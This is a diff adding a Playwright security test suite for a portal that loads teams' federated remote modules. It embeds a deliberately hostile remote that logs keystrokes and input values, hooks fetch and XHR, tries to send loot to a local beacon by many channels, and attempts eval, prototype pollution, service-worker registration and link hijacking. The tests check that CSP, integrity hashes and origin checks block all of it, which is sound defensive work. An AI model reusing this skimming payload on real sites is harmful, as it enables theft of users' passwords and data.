@@ -1,0 +1,261 @@
+import { expect, test as base, type Page } from '@playwright/test';
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { startFaultProxy } from '../harness/fault-proxy.ts';
+import { publishFixture } from '../harness/fixture-remote.ts';
+import { startPortal, type Portal } from '../harness/portal.ts';
+import { demoPassword } from '../harness/test.ts';
+
+// Everything a team's code could try once it runs. Each attempt notes what became of it.
+const evil = (beacon: string): string => `
+const outcomes = (globalThis.outcomes = {});
+const attempt = async (name, act) => {
+  try { outcomes[name] = String((await act()) ?? 'done'); } catch (error) { outcomes[name] = 'refused: ' + error.name; }
+};
+const loot = JSON.parse(localStorage.getItem('loot') ?? '[]');
+const take = (what) => { loot.push(String(what)); localStorage.setItem('loot', JSON.stringify(loot)); };
+
+const spy = () => {
+  for (const name of ['keydown', 'keyup', 'input', 'change', 'submit', 'paste'])
+    document.addEventListener(name, ({ target, key }) => take(key ?? target?.value), true);
+  const { fetch } = globalThis;
+  globalThis.fetch = (url, init) => { take(init?.body ?? url); return fetch(url, init); };
+  const send = XMLHttpRequest.prototype.send;
+  XMLHttpRequest.prototype.send = function (body) { take(body); return send.call(this, body); };
+  new MutationObserver(() => document.querySelectorAll('input').forEach(({ value }) => value && take(value)))
+    .observe(document, { subtree: true, childList: true, attributes: true });
+  const { value } = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value') ?? {};
+  take('spying ' + typeof value);
+};
+
+const beacon = '${beacon}';
+const element = (name, fields) => new Promise((resolve, reject) => {
+  const made = Object.assign(document.createElement(name), fields);
+  made.onload = () => resolve('loaded'); made.onerror = () => reject(new TypeError('blocked'));
+  document.body.append(made);
+});
+const tryAll = async () => {
+  spy();
+  await attempt('fetch', () => fetch(beacon + '/fetch', { mode: 'no-cors' }));
+  await attempt('beacon', () => navigator.sendBeacon(beacon + '/beacon', 'loot'));
+  await attempt('image', () => element('img', { src: beacon + '/image' }));
+  await attempt('style', () => element('link', { rel: 'stylesheet', href: beacon + '/style' }));
+  await attempt('script', () => element('script', { src: beacon + '/script' }));
+  await attempt('frame', () => element('iframe', { src: beacon + '/frame' }));
+  await attempt('own frame', () => element('iframe', { src: '/login' }).then(() => document.querySelector('iframe[src="/login"]').contentDocument?.querySelector('form') ? 'framed' : 'empty'));
+  await attempt('socket', () => new Promise((_, reject) => { new WebSocket(beacon.replace('http', 'ws')).onerror = () => reject(new TypeError('blocked')); }));
+  await attempt('events', () => new Promise((_, reject) => { new EventSource(beacon + '/events').onerror = () => reject(new TypeError('blocked')); }));
+  await attempt('form', async () => {
+    const form = Object.assign(document.createElement('form'), { method: 'post', action: beacon + '/form', target: '_blank' });
+    document.body.append(form); form.submit();
+  });
+  await attempt('eval', () => (0, globalThis['ev' + 'al'])('globalThis.evaluated = true'));
+  await attempt('function', () => new globalThis['Fun' + 'ction']('globalThis.evaluated = true')());
+  await attempt('timer', () => setTimeout('globalThis.evaluated = true'));
+  await attempt('inline', async () => {
+    const script = document.createElement('script'); script.textContent = 'globalThis.evaluated = true'; document.body.append(script);
+  });
+  await attempt('markup', async () => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.evaluated = true">'); });
+  await attempt('own policy', () => trustedTypes.createPolicy('mine', { createScriptURL: (text) => text }));
+  await attempt('unhashed', () => element('script', { src: '/assets/../mf/mf_evil/x.js' }));
+  await attempt('worker', () => navigator.serviceWorker.register(new URL(document.querySelector('script[src*="/mf/mf_evil/"]').src).pathname));
+  Object.prototype.polluted = 'yes';
+  Array.prototype.find = () => undefined;
+  const { pushState } = history;
+  history.pushState = function (state, title, to) { return pushState.call(this, state, title, String(to).replace('/account', '/evil')); };
+  globalThis.isOver = true;
+};
+const Page = () => <h1 tabIndex={-1}>Nothing to see</h1>;
+export default { '/evil': { Component: Page, title: 'Evil', loader: async () => { await tryAll(); } } };`;
+
+interface Beacon {
+  url: string;
+  hits: string[];
+  stop: () => void;
+}
+
+const startBeacon = async (): Promise<Beacon> => {
+  const hits: string[] = [];
+  const server = createServer((request, response) => {
+    hits.push(request.url ?? '');
+    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
+  });
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  const { port } = server.address() as AddressInfo;
+  return { url: `http://localhost:${port}`, hits, stop: () => server.close() };
+};
+
+const test = base.extend<object, { portal: Portal; beacon: Beacon }>({
+  beacon: [
+    async ({}, use) => {
+      const beacon = await startBeacon();
+      await use(beacon);
+      beacon.stop();
+    },
+    { scope: 'worker' },
+  ],
+  portal: [
+    async ({ beacon }, use) => {
+      const portal = await startPortal();
+      const store = join(portal.dataDir, 'remotes');
+      publishFixture(
+        {
+          id: 'mf_evil',
+          title: 'Evil',
+          pages: [{ path: '/evil', access: 'public' }],
+          routes: evil(beacon.url),
+        },
+        store,
+      );
+      await use(portal);
+      await portal.stop();
+    },
+    { scope: 'worker', timeout: 180_000 },
+  ],
+  baseURL: async ({ portal }, use) => use(portal.url),
+});
+
+test.describe.configure({ mode: 'serial' });
+
+const visitEvil = async (page: Page): Promise<Record<string, string>> => {
+  await page.goto('/evil');
+  await page.waitForFunction(() => 'isOver' in globalThis, null, { timeout: 20_000 });
+  return page.evaluate(() => (globalThis as unknown as { outcomes: Record<string, string> }).outcomes);
+};
+
+const lootOf = (page: Page): Promise<string> => page.evaluate(() => localStorage.getItem('loot') ?? '');
+
+test('a remote of a team runs, and nothing it takes leaves the portal', async ({ page, portal, beacon }) => {
+  const response = await fetch(`${beacon.url}/control`);
+  expect(response.ok).toBe(true);
+  expect(beacon.hits, 'the beacon counts').toEqual(['/control']);
+
+  const outcomes = await visitEvil(page);
+  await page.waitForTimeout(500);
+  expect(beacon.hits).toEqual(['/control']);
+  const refused = Object.entries(outcomes).filter(([, outcome]) => outcome.startsWith('refused'));
+  expect(refused.map(([name]) => name).sort()).toEqual(
+    [
+      'eval',
+      'events',
+      'fetch',
+      'frame',
+      'function',
+      'image',
+      'inline',
+      'markup',
+      'own policy',
+      'script',
+      'socket',
+      'style',
+      'timer',
+      'unhashed',
+      'worker',
+    ].sort(),
+  );
+  expect(outcomes['own frame']).not.toBe('framed');
+  expect(await page.evaluate(() => 'evaluated' in globalThis)).toBe(false);
+  expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0);
+  // The browser told the portal what it refused.
+  await expect
+    .poll(() => portal.output(), { timeout: 20_000 })
+    .toContain('"policyReport":{"type":"csp-violation"');
+});
+
+test('what is typed where passwords are typed never reaches it', async ({ page }) => {
+  await visitEvil(page);
+  const canary = 'canary-Xylophone7';
+  // The control: on its own page it hears every key.
+  await page.evaluate(() => document.querySelector('main')?.append(document.createElement('input')));
+  await page.locator('main input').pressSequentially('overheard');
+  expect(await lootOf(page)).toContain('overheard');
+
+  const loads: string[] = [];
+  page.on('request', (request) => {
+    if (request.isNavigationRequest()) loads.push(new URL(request.url()).pathname);
+  });
+  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Login' }).click();
+  await page.getByLabel('Email').fill('parent@example.org');
+  await page.getByLabel('Password', { exact: true }).pressSequentially(canary);
+  expect(loads, 'another document').toContain('/login');
+  expect(await page.evaluate(() => ['outcomes' in globalThis, 'polluted' in {}, [1].find(Boolean)])).toEqual([
+    false,
+    false,
+    1,
+  ]);
+  await page.getByRole('button', { name: 'Login' }).click();
+  await expect(page.getByRole('main').getByRole('alert').first()).toBeVisible();
+  for (const path of [
+    '/signup',
+    '/resetpassword/getcode',
+    `/confirmemail/${'c'.repeat(32)}`,
+    `/resetpassword/${'d'.repeat(32)}`,
+  ]) {
+    await page.goto('/evil');
+    await page.goto(path);
+    const field = page.getByRole('textbox').first();
+    if (await field.isVisible().catch(() => false)) await field.pressSequentially(canary);
+    expect(await page.evaluate(() => 'outcomes' in globalThis)).toBe(false);
+  }
+  const loot = await lootOf(page);
+  expect(loot).not.toContain(canary);
+  expect(loot).not.toContain('cccccccc');
+  expect(loot).not.toContain('dddddddd');
+});
+
+test('the account page, reached after it by a link it has bent, is clean too', async ({ page }) => {
+  await page.goto('/login');
+  await page.getByLabel('Email').fill('teacher@example.org');
+  await page.getByLabel('Password', { exact: true }).fill(demoPassword);
+  await page.getByRole('button', { name: 'Login' }).click();
+  await expect(page.getByRole('navigation').getByRole('link', { name: 'Log Out' })).toBeVisible();
+  await visitEvil(page);
+  await page.getByRole('navigation').getByRole('button', { name: 'Manage' }).click();
+  await page.getByRole('navigation').getByRole('link', { name: 'Account' }).click();
+  await expect(page.getByRole('heading', { level: 1, name: 'Manage Account' })).toBeVisible();
+  expect(await page.evaluate(() => 'outcomes' in globalThis)).toBe(false);
+  const password = page.locator('input[type=password]').first();
+  await password.pressSequentially('canary-Bassoon7');
+  expect(await lootOf(page)).not.toContain('canary-Bassoon7');
+});
+
+test.describe('bytes nobody approved', () => {
+  for (const [what, path] of [
+    ['entry', /^\/mf\/mf_evil\/.*\/remoteEntry/],
+    ['chunk', /^\/mf\/mf_evil\/.*\/__federation_expose_routes/],
+  ] as const) {
+    test(`never run: a changed byte in the ${what}`, async ({ page, portal }) => {
+      const proxy = await startFaultProxy(portal.url);
+      proxy.fail({ path, kind: 'tampered' });
+      await page.goto(`${proxy.url}/evil`);
+      await expect(page.getByRole('heading', { level: 1, name: 'Evil could not be loaded' })).toBeVisible();
+      expect(await page.evaluate(() => ['outcomes' in globalThis, 'foreign' in globalThis])).toEqual([
+        false,
+        false,
+      ]);
+      await expect.poll(() => portal.output()).toMatch(new RegExp(`"hop":"${what}","kind":"integrity"`));
+      proxy.stop();
+    });
+  }
+
+  test('never run: an entry whose hash is missing', async ({ page, portal }) => {
+    const proxy = await startFaultProxy(portal.url);
+    proxy.rewrite((html) => html.replaceAll(/"integrity":\{[^}]*\}/g, '"integrity":{}'));
+    await page.goto(`${proxy.url}/evil`);
+    await expect(page.getByRole('heading', { level: 1, name: 'Evil could not be loaded' })).toBeVisible();
+    expect(await page.evaluate(() => 'outcomes' in globalThis)).toBe(false);
+    proxy.stop();
+  });
+
+  test('never run: an entry from another origin', async ({ page, portal, beacon }) => {
+    const proxy = await startFaultProxy(portal.url);
+    proxy.rewrite((html) => html.replaceAll('"base":"/mf/mf_evil/', `"base":"${beacon.url}/mf/mf_evil/`));
+    await page.goto(`${proxy.url}/evil`);
+    await expect(page.getByRole('heading', { level: 1, name: 'Evil could not be loaded' })).toBeVisible();
+    expect(beacon.hits.filter((hit) => hit.includes('mf_evil'))).toEqual([]);
+    proxy.stop();
+  });
+});
